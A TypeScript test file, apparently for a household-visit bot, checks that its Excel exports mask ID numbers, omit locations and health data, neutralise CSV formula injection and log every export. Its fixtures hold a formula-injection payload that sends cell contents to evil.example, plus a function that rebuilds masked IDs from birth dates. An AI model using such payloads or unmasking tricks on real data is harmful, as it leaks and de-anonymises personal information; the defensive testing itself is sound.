/**
 * Issue 10, exports and masking (read back with exceljs): a masked ID cannot be completed from other columns;
 * positions, photos and members' health and disability are in no sheet; text cannot turn into a formula when the
 * sheet is re-saved as CSV, and hidden characters are stripped; every export is recorded (who, what, scope, when).
 * And the sibling issue: the cards export carries the computed figures with no column twice; the households
 * export fills every column it promises.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { eq } from 'drizzle-orm';
import { makeHarness, type Harness, type TestUser } from '../support/harness.js';
import { FIRST_CARD, fillCard, withDistrictLine2017 } from '../support/card-driver.js';
import { findPeople } from '../../src/db/people-repo.js';
import { auditLog, households } from '../../src/db/schema.js';

/** The head's ID number as the demo roster holds it (born 1965-03-02). */
const ID = '41052319650302123X';

let h: Harness;
let sup: TestUser;

beforeAll(async () => {
  h = makeHarness({ settings: withDistrictLine2017 });
  const helper = h.demo.find((d) => d.role === 'helper')!;
  const u = h.user(101);
  await u.send(`/start ${helper.code}`);
  sup = h.user(203);
  await sup.send(`/start ${h.demo.find((d) => d.role === 'supervisor+admin')!.code}`);
  await u.send('/visit');
  await u.press('H0001');
  await u.press('开始填写');
  // the head is member 1 too: his birth date is read from his ID number
  await fillCard(h, u, findPeople(h.db, helper.name)[0].id, 'H0001', FIRST_CARD);
  await u.press('提交这张卡');
  // names that came in before the roster checks, or through another tool
  h.db.update(households).set({ headName: '=HYPERLINK("http://evil.example/?x="&A1,"点我")' }).where(eq(households.code, 'H0002')).run();
  h.db.update(households).set({ headName: '@SUM(1+1)\u202E\u0000' }).where(eq(households.code, 'H0003')).run();
  h.db.update(households).set({ headName: '-2+3' }).where(eq(households.code, 'H0004')).run();
}, 120_000);

async function exportOf(label: string): Promise<ExcelJS.Workbook> {
  await sup.send('/export');
  await sup.press(label);
  const doc = sup.inbox().filter((m) => m.method === 'sendDocument').at(-1)!;
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(doc.file!.bytes as never);
  return wb;
}

function records(ws: ExcelJS.Worksheet): Record<string, unknown>[] {
  const header = (ws.getRow(1).values as unknown[]).slice(1).map(String);
  const out: Record<string, unknown>[] = [];
  ws.eachRow((row, n) => {
    if (n > 1) out.push(Object.fromEntries(header.map((k, i) => [k, row.getCell(i + 1).value])));
  });
  return out;
}

const allCells = (wb: ExcelJS.Workbook) => {
  const out: string[] = [];
  for (const ws of wb.worksheets) ws.eachRow((r) => r.eachCell((c) => void out.push(String(c.value))));
  return out;
};

/** The attack: fill the masked digits of an ID number from a birth date shown beside it. */
function rebuild(masked: string, birth: string): string | undefined {
  const m = /^(\d{6})(\*{8})(\d{3}[\dXx])$/.exec(masked);
  const b = /^(\d{4})-(\d{2})-(\d{2})$/.exec(birth);
  return m && b ? `${m[1]}${b[1]}${b[2]}${b[3]}${m[3]}` : undefined;
}

describe('exports: minimised, masked, safe to re-save, recorded', () => {
  it('no masked ID number can be completed from the birth date beside it', async () => {
    const wb = await exportOf('全部动态信息卡');
    const members = records(wb.getWorksheet('家庭成员')!);
    const head = members.find((m) => m['姓名'] === '李大山')!;
    expect(String(head['身份证号'])).toMatch(/^410523\*{12}$/);
    expect(String(head['出生日期'])).toBe('1965');
    const card = records(wb.worksheets[0])[0];
    for (const birth of members.map((m) => String(m['出生日期']))) {
      expect(rebuild(String(head['身份证号']), birth)).toBeUndefined();
      expect(rebuild(String(card['户主身份证号']), birth)).toBeUndefined();
    }
    expect(allCells(wb).some((c) => c.includes(ID) || c.includes('1965-03-02') || c.includes('19650302'))).toBe(false);
  });

  it('positions, photos and members’ health and disability are in no sheet', async () => {
    const wb = await exportOf('全部动态信息卡');
    const headers = wb.worksheets.flatMap((ws) => (ws.getRow(1).values as unknown[]).slice(1).map(String));
    for (const h of ['到户位置（开始走访时共享）', '离户位置（结束走访时共享）', '签字纸质卡照片', '健康状况', '是否持有残疾证']) expect(headers).not.toContain(h);
    expect(allCells(wb).some((c) => c.includes('34.271') || c.includes('108.95') || c.includes('长期慢性病'))).toBe(false);
    const archive = await exportOf('一户一档');
    expect(allCells(archive).some((c) => c.includes('34.271') || c.includes('长期慢性病'))).toBe(false);
  });

  it('the cards export carries the computed figures, and no column twice', async () => {
    const wb = await exportOf('全部动态信息卡');
    const ws = wb.worksheets[0];
    const headers = (ws.getRow(1).values as unknown[]).slice(1).map(String);
    expect(headers.length).toBe(new Set(headers).size);
    const card = records(ws)[0];
    // 16000 + 6000 + 0 + 1200 − 1500 = 21700 for 2 people
    expect(card).toMatchObject({ 家庭纯收入: 21700, 人均纯收入: 7233.33, '当年贫困标准（元/人·年）': 2952, 人均纯收入高于贫困标准: '是' });
  });

  it('the households export fills every column it promises', async () => {
    const wb = await exportOf('贫困户 × 走访情况');
    const ws = wb.worksheets[0];
    const rows = records(ws);
    const empty = Object.keys(rows[0]).filter((k) => rows.every((r) => r[k] === null || r[k] === ''));
    expect(empty).toEqual([]);
    expect(rows.find((r) => r['户编号'] === 'H0001')!['户主身份证号']).toBe('410523************');
  });

  it('text cannot become a formula when re-saved as CSV; hidden characters are stripped', async () => {
    const wb = await exportOf('贫困户 × 走访情况');
    const rows = records(wb.worksheets[0]);
    const name = (code: string) => String(rows.find((r) => r['户编号'] === code)!['户主姓名']);
    expect(name('H0002')).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"点我")`);
    expect(name('H0003')).toBe(`'@SUM(1+1)`);
    expect(name('H0004')).toBe(`'-2+3`);
    // as a spreadsheet program writes the sheet out as CSV: no field starts with = + - @
    const csv = Buffer.from(await wb.csv.writeBuffer()).toString('utf8');
    for (const field of csv.split(/[\r\n,]+/)) expect(field.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
    expect(allCells(wb).some((c) => /[\u0000\u202E]/.test(c))).toBe(false);
    // and no cell is a formula
    wb.worksheets[0].eachRow((r) => r.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('every export is recorded: who, what, scope, when', () => {
    const rows = h.db.select().from(auditLog).where(eq(auditLog.action, 'export')).all();
    const wu = findPeople(h.db, '吴主任')[0].id;
    expect(rows.length).toBeGreaterThanOrEqual(6);
    for (const r of rows) {
      expect(r.personId).toBe(wu);
      expect(r.at).toBeGreaterThan(0);
      expect(JSON.parse(r.detail!)).toMatchObject({ scope: 'district', via: 'bot', kind: expect.stringMatching(/households|cards|archive/) });
    }
  });
});
